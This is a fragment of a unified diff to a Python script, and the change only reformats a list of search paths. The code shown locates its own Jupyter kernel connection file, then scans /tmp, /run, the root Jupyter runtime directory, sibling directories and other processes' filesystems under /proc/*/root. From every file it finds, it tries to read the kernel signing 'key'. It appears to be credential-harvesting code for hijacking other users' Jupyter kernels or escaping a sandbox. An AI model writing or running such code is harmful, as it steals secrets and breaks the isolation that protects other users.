@@ -11,9 +11,13 @@ import ipykernel
 
 mine = os.path.realpath(ipykernel.get_connection_file())
 run = os.path.dirname(mine)
-for path in [*glob.glob("/tmp/**", recursive=True), *glob.glob("/run/**", recursive=True),
-             *glob.glob("/root/.local/share/jupyter/runtime/*"), *glob.glob(f"{run}/../../*/*"),
-             *glob.glob("/proc/*/root/tmp/bb-*/*")]:
+for path in [
+    *glob.glob("/tmp/**", recursive=True),
+    *glob.glob("/run/**", recursive=True),
+    *glob.glob("/root/.local/share/jupyter/runtime/*"),
+    *glob.glob(f"{run}/../../*/*"),
+    *glob.glob("/proc/*/root/tmp/bb-*/*"),
+]:
     try:
         key = json.load(open(path))["key"]
     except (OSError, ValueError, KeyError, TypeError):
